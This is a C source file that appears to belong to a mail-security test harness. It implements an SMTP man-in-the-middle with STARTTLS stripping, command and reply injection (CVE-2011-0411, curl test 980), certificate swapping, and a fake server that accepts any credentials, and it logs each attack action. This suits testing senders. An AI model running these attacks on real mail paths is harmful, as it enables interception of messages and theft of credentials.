/*
 * mitm_smtp: the SMTP dialogue on the attacker's path, while the path
 * reads it (plaintext, or inside the attacker's own TLS).  See mitm.h for
 * the attacks and mitm_int.h for the split with mitm.c.
 *
 * Client commands are recorded and forwarded, or answered by the attacker;
 * server replies are collected whole, changed by the attacks, recorded and
 * forwarded.  Replies come back in command order, so each command leaves
 * an entry in a FIFO; entries the attacker answers itself carry their
 * reply text and are released in order, so a local answer never overtakes
 * a reply still due from the MX.  An entry may also carry a substitute for
 * the MX's reply (reply attacks on the banner and the end of data, where
 * the MX must still take part) or be swallowed (commands the attacker
 * injected).  Everything written to the sender in one go (a reply and the
 * lines injected behind it) leaves in one write, so in one TCP segment.
 *
 * When the attacker injects replies into a dialogue that stays in
 * plaintext (starttls_inject with a code), it keeps the sender's view:
 * each later command of the sender takes the next injected reply as its
 * answer, and a DATA that takes an injected 354 starts the message at
 * once, before the MX has said anything.
 *
 * Logs: every attack action is a '!' line in the session transcript.
 */
#include "attacker/mitm_int.h"

#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "core/util.h"

/* curl test 980: a refusal, then the replies of a whole transaction */
#define INJECT_REFUSAL_DEFAULT "250 2.1.0 Sender ok\n250 2.1.5 Recipient ok\n" \
	"354 Enter mail, end with \".\"\n250 2.0.0 Accepted"
#define INJECT_COMMAND_DEFAULT "RSET"

static bool on_cli_line(struct msess *ms, const char *line, size_t len);

/* --- writing to the sender --- */

static void
send_buf(struct msess *ms, struct buf *b)
{
	size_t n = b->len;

	conn_write(ms->cli, buf_cstr(b), n);
	buf_free(b);
}

/* --- the FIFO --- */

/* Returns false when the session ended (too many pipelined commands). */
bool
mitm_push(struct msess *ms, struct mitm_pending p)
{
	if (ms->nfifo == MITM_MAX_PENDING) {
		free(p.local);
		free(p.subst);
		mitm_note(ms, "too many pipelined commands; dropping the session");
		mitm_sess_end(ms, "pipelining overflow");
		return false;
	}
	ms->fifo[ms->nfifo++] = p;
	return true;
}

static void
pop_front(struct msess *ms)
{
	free(ms->fifo[0].local);
	free(ms->fifo[0].subst);
	memmove(ms->fifo, ms->fifo + 1, (ms->nfifo - 1) * sizeof(ms->fifo[0]));
	ms->nfifo--;
}

void
mitm_clear_pending(struct msess *ms)
{
	while (ms->nfifo > 0)
		pop_front(ms);
}

/* What happens after a reply has gone out.  Returns false when the
 * session ended. */
static bool
after_reply(struct msess *ms, enum mitm_after after)
{
	switch (after) {
	case AFTER_CLOSE:
		mitm_sess_end(ms, ms->quit_seen ? "quit" : "closed by attacker");
		return false;
	case AFTER_CLI_TLS:
		return mitm_start_cli_tls(ms);
	case AFTER_PLAIN:
		return mitm_to_raw(ms, "attacker: said 220 but starts no TLS; the sender's "
		    "bytes go to the MX as they are");
	case AFTER_HSFAIL:
		return mitm_to_hsfail(ms);
	case AFTER_NONE:
		break;
	}
	return true;
}

/* Release attacker replies at the head of the FIFO (while the path still
 * reads lines).  Returns false when the session ended. */
bool
mitm_flush_local(struct msess *ms)
{
	while (ms->mode == M_LINE && ms->nfifo > 0 && ms->fifo[0].local != NULL) {
		enum mitm_after after = ms->fifo[0].after;
		struct buf b;

		buf_init(&b);
		mitm_add_lines(ms, &b, ms->fifo[0].local);
		if (ms->fifo[0].verb == SMTP_V_STARTTLS && mitm_text_code(ms->fifo[0].local) == 220)
			mitm_inject_after_220(ms, &b);
		send_buf(ms, &b);
		pop_front(ms);
		if (!after_reply(ms, after))
			return false;
	}
	return true;
}

static bool
reply_local(struct msess *ms, enum smtp_verb verb, const char *text,
    enum mitm_after after)
{
	if (after == AFTER_NONE && mitm_text_code(text) == 421)
		after = AFTER_CLOSE;   /* RFC 5321 3.8: 421 closes the channel */
	if (!mitm_push(ms, (struct mitm_pending){ .verb = verb, .local = xstrdup(text),
	    .after = after }))
		return false;
	return mitm_flush_local(ms);
}

bool
mitm_local_starttls_ok(struct msess *ms)
{
	return reply_local(ms, SMTP_V_STARTTLS, "220 2.0.0 Ready to start TLS",
	    AFTER_CLI_TLS);
}

/* --- reply attacks: which step the attacker answers --- */

/* The reply the attacker gives for step (a verb name, "DOT" or
 * "banner"), or NULL.  Allocated. */
static char *
reply_for(const struct msess *ms, const char *step)
{
	for (size_t i = 0; i < ms->nact; i++) {
		const struct mitm_attack *a = ms->act[i];
		if (a->kind == MITM_REPLY && strcasecmp(a->step, step) == 0)
			return mitm_code_reply(a->code ? a->code : 421, a->text);
		if (a->kind == MITM_EHLO_REJECT && strcmp(step, "EHLO") == 0 &&
		    !mitm_tls_with_sender(ms))
			return mitm_code_reply(a->code ? a->code : 502, a->text);
	}
	return NULL;
}

bool
mitm_start_banner(struct msess *ms)
{
	char *sub = reply_for(ms, "banner");
	struct mitm_pending p = { .verb = SMTP_V_UNKNOWN, .banner = true };

	if (ms->local)
		p.local = sub ? sub : xasprintf("220 %s ESMTP", ms->m->host);
	else
		p.subst = sub;
	if (ms->local && sub != NULL) {
		mitm_note(ms, "greets with %.3s itself", sub);
		ms->s->banner = mitm_text_code(sub) == 220;
		if (mitm_text_code(sub) == 421)
			p.after = AFTER_CLOSE;
	} else if (ms->local) {
		ms->s->banner = true;
	}
	return mitm_push(ms, p);
}

/* --- the attacker's own SMTP server (swap_cert without relay) --- */

static bool
local_answer(struct msess *ms, const struct smtp_cmd *cmd)
{
	char buf[512];
	const char *host = ms->m->host;

	switch (cmd->verb) {
	case SMTP_V_EHLO: {
		struct smtp_reply r;
		char *text;
		bool alive;
		snprintf(buf, sizeof(buf), "250-%s\n250-PIPELINING\n250-SIZE 10485760\n"
		    "250-8BITMIME\n250-ENHANCEDSTATUSCODES\n%s250 STARTTLS", host,
		    ms->port != 25 ? "250-AUTH PLAIN LOGIN\n" : "");
		mitm_reply_from_text(&r, buf);
		mitm_edit_ehlo(ms, &r);
		text = mitm_reply_to_text(&r);
		smtp_reply_clear(&r);
		alive = reply_local(ms, cmd->verb, text, AFTER_NONE);
		free(text);
		return alive;
	}
	case SMTP_V_HELO:
		snprintf(buf, sizeof(buf), "250 %s", host);
		return reply_local(ms, cmd->verb, buf, AFTER_NONE);
	case SMTP_V_MAIL:
	case SMTP_V_RCPT:
	case SMTP_V_RSET:
	case SMTP_V_NOOP:
		return reply_local(ms, cmd->verb, "250 2.0.0 Ok", AFTER_NONE);
	case SMTP_V_DATA:
		ms->in_data = true;
		return reply_local(ms, cmd->verb, "354 End data with <CR><LF>.<CR><LF>",
		    AFTER_NONE);
	case SMTP_V_QUIT:
		return reply_local(ms, cmd->verb, "221 2.0.0 Bye", AFTER_CLOSE);
	case SMTP_V_AUTH: {   /* a phishing server: any credentials will do */
		const char *text = smtp_auth_start(&ms->lauth, cmd->arg);
		ms->sasl_expect = smtp_auth_busy(&ms->lauth);
		return reply_local(ms, cmd->verb, text, AFTER_NONE);
	}
	default:
		return reply_local(ms, cmd->verb, "502 5.5.2 Error: command not recognized",
		    AFTER_NONE);
	}
}

/* --- server replies --- */

static const char *
pending_step(const struct mitm_pending *p)
{
	return p->banner ? "the banner" : p->dot ? "the end of data" :
	    smtp_verb_name(p->verb);
}

/* A reply (the MX's, or the attacker's substitute) goes to the sender. */
bool
mitm_deliver_reply(struct msess *ms, const struct mitm_pending *p,
    struct smtp_reply *r, bool substituted)
{
	struct rec_session *s = ms->s;
	struct buf b;

	if (p->verb == SMTP_V_EHLO && r->code == 250) {
		int held = mitm_split_ehlo(ms, r);   /* tls_split mx-tls */
		if (held != 0)
			return held > 0;
	}
	if (p->banner)
		s->banner = r->code == 220;
	if (p->verb == SMTP_V_AUTH)
		ms->sasl_expect = r->code == 334;   /* a SASL response follows */
	if (p->verb == SMTP_V_EHLO && r->code == 250)
		mitm_edit_ehlo(ms, r);
	buf_init(&b);
	for (size_t i = 0; i < r->nlines; i++)
		mitm_add_lines(ms, &b, r->lines[i]);
	if (p->verb == SMTP_V_STARTTLS && r->code == 220 && !mitm_tls_with_sender(ms))
		mitm_inject_after_220(ms, &b);
	mitm_hook_after(ms, &b);
	send_buf(ms, &b);
	if (substituted && r->code == 421)
		return after_reply(ms, AFTER_CLOSE);
	switch (p->verb) {
	case SMTP_V_STARTTLS:
		if (!mitm_tls_with_sender(ms)) {
			s->starttls_reply = r->code;
			if (r->code == 220)
				return mitm_to_raw(ms, "TLS starts between sender and MX; "
				    "the path relays it untouched");
		}
		break;
	case SMTP_V_DATA:
		if (r->code == 354 && !p->cli_data)
			ms->in_data = true;
		break;
	default:
		break;
	}
	if (p->dot && r->code == 250 && mitm_own_leg(ms))
		s->delivered = true;   /* the MX's own record sits on the attacker's leg */
	return mitm_flush_local(ms);
}

/* A whole reply from the MX.  Returns false when the session ended. */
static bool
on_reply(struct msess *ms, struct smtp_reply *r)
{
	struct mitm_pending p = { .verb = SMTP_V_UNKNOWN };
	struct smtp_reply sub;
	bool alive;

	if (ms->nfifo > 0 && ms->fifo[0].local == NULL) {
		p = ms->fifo[0];
		ms->fifo[0].subst = NULL;     /* ours now */
		pop_front(ms);
	}
	if (p.swallow) {
		mitm_note(ms, "the MX answered an injected %s with %d in plaintext "
		    "(it started no TLS); the reply is dropped", smtp_verb_name(p.verb),
		    r->code);
		return mitm_flush_local(ms);
	}
	if (p.split_ehlo) {
		mitm_note(ms, "the MX answered its EHLO inside TLS with %d; the "
		    "sender gets the held plaintext EHLO reply", r->code);
		return mitm_split_release(ms);
	}
	if (p.ours && ms->split_mx != NULL)
		return mitm_split_starttls_reply(ms, r->code);
	if (p.ours) {
		/* reply to the attacker's own STARTTLS towards the MX */
		if (r->code == 220) {
			mitm_note(ms, "starting its own TLS towards the MX");
			if (conn_starttls(ms->up, ms->m->up_tls, false, ms->m->host) == 0)
				return true;   /* the 220 to the sender waits for TLS_OK */
		}
		mitm_note(ms, "the MX refused its STARTTLS; relaying in plaintext upstream");
		return mitm_local_starttls_ok(ms);
	}
	if (p.subst == NULL)
		return mitm_deliver_reply(ms, &p, r, false);
	mitm_reply_from_text(&sub, p.subst);
	mitm_note(ms, "replaced the MX's %d to %s with %d", r->code, pending_step(&p),
	    sub.code);
	alive = mitm_deliver_reply(ms, &p, &sub, true);
	smtp_reply_clear(&sub);
	free(p.subst);
	return alive;
}

/* One reply line of the MX (after the hooks).  Returns false when the
 * session ended. */
bool
mitm_up_line(struct msess *ms, const char *line, size_t len)
{
	int f = smtp_reply_feed(&ms->reply, line, len);

	if (f < 0) {
		struct buf b;
		mitm_note(ms, "malformed reply line from the server, passed on as is");
		buf_init(&b);
		buf_append(&b, line, len);
		rec_line(ms->m->rec, ms->s, '<', "%s", buf_cstr(&b));
		buf_append(&b, "\r\n", 2);
		send_buf(ms, &b);
		smtp_reply_clear(&ms->reply);
		return true;
	}
	if (f == 0)
		return true;
	struct smtp_reply r = ms->reply;
	smtp_reply_init(&ms->reply);
	bool alive = on_reply(ms, &r);
	smtp_reply_clear(&r);
	return alive;
}

void
mitm_line_up_data(struct msess *ms)
{
	char *line;
	size_t len;
	int rr;

	while (ms->up_held == NULL && (rr = conn_getline(ms->up, &line, &len)) != 0) {
		bool alive;
		if (rr < 0) {
			mitm_note(ms, "over-long reply line from the server dropped");
			continue;
		}
		if (mitm_hook_any(ms, false))
			alive = mitm_hook_up_line(ms, line, len);
		else
			alive = mitm_up_line(ms, line, len);
		if (!alive)
			return;
		if (ms->mode != M_LINE) {
			/* whatever followed the reply belongs to the new mode */
			mitm_on_up_data(ms);
			return;
		}
	}
}

/* --- client lines --- */

/* Returns false when the session ended. */
static bool
forward_cmd(struct msess *ms, const char *line, size_t len, struct mitm_pending p)
{
	conn_write(ms->up, line, len);
	conn_write(ms->up, "\r\n", 2);
	return mitm_push(ms, p);
}

/* The sender's STARTTLS goes to the MX, with the commands of a
 * starttls_inject "command" right behind it in the same segment. */
static bool
forward_starttls(struct msess *ms, const char *line, size_t len)
{
	const struct mitm_attack *a = mitm_inject_of(ms, "command");
	const char *text, *p;
	struct buf b, shown;
	size_t ncmd = 0;

	if (a == NULL)
		return forward_cmd(ms, line, len, (struct mitm_pending){
		    .verb = SMTP_V_STARTTLS });
	text = a->text ? a->text : INJECT_COMMAND_DEFAULT;
	buf_init(&b);
	buf_init(&shown);
	buf_append(&b, line, len);
	buf_append(&b, "\r\n", 2);
	for (p = text; *p; ncmd++) {
		const char *nl = strchr(p, '\n');
		size_t n = nl ? (size_t)(nl - p) : strlen(p);
		buf_appendf(&shown, "%s%.*s", ncmd ? " | " : "", (int)n, p);
		buf_append(&b, p, n);
		buf_append(&b, "\r\n", 2);
		p += n + (nl != NULL);
	}
	/* the MX records what it reads ('}'); this says what went with it */
	mitm_note(ms, "injected %zu command line%s (%zu bytes) towards the MX right "
	    "behind the sender's STARTTLS, in the same segment (CVE-2011-0411): %s",
	    ncmd, ncmd == 1 ? "" : "s", b.len - len - 2, buf_cstr(&shown));
	conn_write(ms->up, buf_cstr(&b), b.len);
	buf_free(&b);
	buf_free(&shown);
	if (!mitm_push(ms, (struct mitm_pending){ .verb = SMTP_V_STARTTLS }))
		return false;
	/* a vulnerable or TLS-less MX answers them: those replies are ours */
	for (p = text; *p;) {
		const char *nl = strchr(p, '\n');
		size_t n = nl ? (size_t)(nl - p) : strlen(p);
		struct smtp_cmd cmd;
		if (smtp_cmd_parse(p, n, &cmd) < 0)
			cmd.verb = SMTP_V_UNKNOWN;
		if (!mitm_push(ms, (struct mitm_pending){ .verb = cmd.verb, .swallow = true }))
			return false;
		p += n + (nl != NULL);
	}
	return true;
}

/* starttls_error, or reply with step STARTTLS. */
static bool
starttls_answer(struct msess *ms, const struct mitm_attack *a, int dflt)
{
	const char *mode = a->mode ? a->mode : "reply";
	int code = a->code ? a->code : dflt;
	enum mitm_after after = AFTER_NONE;
	char *text;
	bool alive;

	if (strcmp(mode, "drop") == 0) {
		mitm_note(ms, "dropped the connection at STARTTLS");
		mitm_sess_end(ms, "dropped by attacker");
		return false;
	}
	if (strcmp(mode, "close") == 0 || code == 421)
		after = AFTER_CLOSE;
	else if (code == 220)
		after = AFTER_PLAIN;
	ms->s->starttls_reply = code;
	mitm_note(ms, "answered STARTTLS with %d itself%s", code,
	    after == AFTER_CLOSE ? ", then closes" : after == AFTER_PLAIN ?
	    "; no TLS will follow" : "; the MX never sees it");
	text = mitm_code_reply(code, a->text);
	alive = reply_local(ms, SMTP_V_STARTTLS, text, after);
	free(text);
	return alive;
}

/* starttls_inject with a code: a refusal with replies behind it. */
static bool
inject_refusal(struct msess *ms, const struct mitm_attack *a)
{
	const char *inj = a->text ? a->text : INJECT_REFUSAL_DEFAULT;
	char *text = xasprintf("%d %s\n%s", a->code, mitm_default_text(a->code), inj);
	bool alive;

	ms->s->starttls_reply = a->code;
	mitm_note(ms, "answered STARTTLS with %d and injected more replies behind it "
	    "in the same segment (curl test 980)", a->code);
	alive = reply_local(ms, SMTP_V_STARTTLS, text, AFTER_NONE);
	free(text);
	if (alive)
		mitm_track_injected(ms, inj);
	return alive;
}

static bool
on_starttls(struct msess *ms, const char *line, size_t len)
{
	if (mitm_tls_with_sender(ms)) {
		mitm_note(ms, "the sender issued STARTTLS inside TLS");
		if (ms->local)
			return reply_local(ms, SMTP_V_STARTTLS,
			    "554 5.5.1 Error: TLS already active", AFTER_NONE);
		return forward_cmd(ms, line, len, (struct mitm_pending){
		    .verb = SMTP_V_STARTTLS });
	}
	ms->s->starttls_issued = true;
	for (size_t i = 0; i < ms->nact; i++) {
		const struct mitm_attack *a = ms->act[i];
		switch (a->kind) {
		case MITM_STRIP_STARTTLS:
			mitm_note(ms, "answered STARTTLS itself: not offered (stripped)");
			ms->s->starttls_reply = 502;
			return reply_local(ms, SMTP_V_STARTTLS,
			    "502 5.5.1 Error: command not implemented", AFTER_NONE);
		case MITM_STARTTLS_ERROR:
			return starttls_answer(ms, a, 454);
		case MITM_REPLY:
			if (strcasecmp(a->step, "STARTTLS") == 0)
				return starttls_answer(ms, a, 421);
			break;
		case MITM_STARTTLS_INJECT:
			if (a->code != 0 && strcmp(a->mode ? a->mode : "reply", "reply") == 0)
				return inject_refusal(ms, a);
			break;
		case MITM_HOOK:
			if (ms->hsfail == a)
				goto hsfail;
			if (ms->swap == a)
				goto swap;
			break;
		case MITM_HANDSHAKE_FAIL:
		hsfail:
			mitm_note(ms, "answered STARTTLS with 220 itself; the MX never sees it");
			ms->s->starttls_reply = 220;
			return reply_local(ms, SMTP_V_STARTTLS, "220 2.0.0 Ready to start TLS",
			    AFTER_HSFAIL);
		case MITM_TLS_SPLIT:
			if (ms->swap == a || ms->split_mx == a)
				return mitm_split_starttls(ms, a);
			break;
		case MITM_SWAP_CERT:
		swap:
			ms->s->starttls_reply = 220;
			if (ms->local)
				return mitm_local_starttls_ok(ms);
			/* relay: STARTTLS to the MX first, then TLS both ways */
			conn_write(ms->up, "STARTTLS\r\n", 10);
			return mitm_push(ms, (struct mitm_pending){ .verb = SMTP_V_STARTTLS,
			    .ours = true });
		default:
			break;
		}
	}
	return forward_starttls(ms, line, len);
}

/* A header line "Content-Type: application/pkcs7-mime; ..." (S/MIME
 * enveloped or signed data: RFC 8551 3.2; x-pkcs7-mime is the old name). */
static bool
content_type_smime(const char *line, size_t len)
{
	static const char ct[] = "content-type:";
	char buf[256];
	size_t n = len < sizeof(buf) - 1 ? len : sizeof(buf) - 1;

	if (len < sizeof(ct) - 1 || strncasecmp(line, ct, sizeof(ct) - 1) != 0)
		return false;
	memcpy(buf, line, n);
	buf[n] = '\0';
	for (char *p = buf; *p; p++)
		*p = (char)(*p >= 'A' && *p <= 'Z' ? *p + 32 : *p);
	return strstr(buf, "application/pkcs7-mime") != NULL ||
	    strstr(buf, "application/x-pkcs7-mime") != NULL;
}

/* A line of message content (or its end). */
static bool
data_line(struct msess *ms, const char *line, size_t len)
{
	struct rec_session *s = ms->s;
	bool dot = len == 1 && line[0] == '.';
	char *sub;

	if (!dot) {
		if (ms->data_bytes == 0)
			ms->data_hdr = true;
		if (ms->data_hdr && len == 0)
			ms->data_hdr = false;
		else if (ms->data_hdr && content_type_smime(line, len))
			s->content_protected = true;   /* what it sees is ciphertext */
		if (ms->data_bytes == 0) {
			s->data_sent = true;
			s->data_tls = mitm_tls_with_sender(ms);
			rec_set(&s->data_to, mitm_own_leg(ms) ? "attacker" : "mx");
			if (mitm_own_leg(ms) || mitm_attacked(ms)) {
				s->leak = true;
				mitm_note(ms, "sees the message content");
			}
		}
		ms->data_bytes += len + 2;
		if (ms->local)
			return true;
		conn_write(ms->up, line, len);
		conn_write(ms->up, "\r\n", 2);
		return true;
	}
	ms->in_data = false;
	rec_line(ms->m->rec, s, '>', "[message: %zu bytes]", ms->data_bytes);
	rec_line(ms->m->rec, s, '>', ".");
	(void)mitm_take_injected(ms, "the end of data");
	sub = reply_for(ms, "DOT");
	if (ms->local) {
		bool alive;
		s->delivered = true;
		alive = reply_local(ms, SMTP_V_UNKNOWN, sub ? sub :
		    "250 2.0.0 Ok: queued by the attacker", AFTER_NONE);
		free(sub);
		return alive;
	}
	return forward_cmd(ms, line, len, (struct mitm_pending){ .verb = SMTP_V_UNKNOWN,
	    .dot = true, .subst = sub });
}

/* Returns false when the session ended. */
static bool
on_cli_line(struct msess *ms, const char *line, size_t len)
{
	if (ms->in_data)
		return data_line(ms, line, len);
	rec_line(ms->m->rec, ms->s, '>', "%.*s", (int)len, line);
	if (mitm_hook_any(ms, true))
		return mitm_hook_cli_line(ms, line, len);
	return mitm_cli_command(ms, line, len);
}

/* A command line (after the hooks).  Returns false when the session
 * ended. */
bool
mitm_cli_command(struct msess *ms, const char *line, size_t len)
{
	struct rec_session *s = ms->s;
	struct smtp_cmd cmd;
	char *sub;
	int taken;

	if (ms->in_data)
		return data_line(ms, line, len);
	if (ms->sasl_expect) {   /* a SASL response, no command */
		mitm_auth_response(ms, line, len);
		if (ms->local) {
			const char *text = smtp_auth_step(&ms->lauth, line, len);
			ms->sasl_expect = smtp_auth_busy(&ms->lauth);
			return reply_local(ms, SMTP_V_AUTH, text, AFTER_NONE);
		}
		return forward_cmd(ms, line, len, (struct mitm_pending){
		    .verb = SMTP_V_AUTH });
	}
	if (smtp_cmd_parse(line, len, &cmd) < 0)
		cmd.verb = SMTP_V_UNKNOWN;
	taken = mitm_take_injected(ms, smtp_verb_name(cmd.verb));
	switch (cmd.verb) {
	case SMTP_V_STARTTLS:
		return on_starttls(ms, line, len);
	case SMTP_V_EHLO:
	case SMTP_V_HELO:
		if (mitm_tls_with_sender(ms))
			s->ehlo_after_tls = true;
		mitm_split_helo(ms, line, len);
		break;
	case SMTP_V_MAIL:
		s->mail_from = true;
		if (smtp_mail_requiretls(cmd.arg)) {   /* RFC 8689 */
			s->mail_requiretls = true;
			if (!mitm_tls_with_sender(ms))
				s->mail_requiretls_clear = true;
		}
		break;
	case SMTP_V_QUIT:
		ms->quit_seen = true;
		break;
	case SMTP_V_AUTH:
		mitm_auth_cmd(ms, &cmd);
		break;
	default:
		break;
	}
	if (cmd.verb != SMTP_V_UNKNOWN &&
	    (sub = reply_for(ms, smtp_verb_name(cmd.verb))) != NULL) {
		bool alive;
		mitm_note(ms, "answered %s with %d itself; the MX never sees it",
		    smtp_verb_name(cmd.verb), mitm_text_code(sub));
		alive = reply_local(ms, cmd.verb, sub, AFTER_NONE);
		free(sub);
		return alive;
	}
	if (ms->local)
		return local_answer(ms, &cmd);
	if (cmd.verb == SMTP_V_DATA && taken == 354) {
		/* the sender starts the message now, before the MX answers */
		ms->in_data = true;
		return forward_cmd(ms, line, len, (struct mitm_pending){
		    .verb = cmd.verb, .cli_data = true });
	}
	return forward_cmd(ms, line, len, (struct mitm_pending){ .verb = cmd.verb });
}

void
mitm_line_cli_data(struct msess *ms)
{
	char *line;
	size_t len;
	int r;

	while (ms->cli_held == NULL && (r = conn_getline(ms->cli, &line, &len)) != 0) {
		if (r < 0) {
			mitm_note(ms, "over-long line from the sender dropped");
			continue;
		}
		if (!on_cli_line(ms, line, len))
			return;
		if (ms->mode != M_LINE) {
			mitm_on_cli_data(ms);
			return;
		}
	}
}
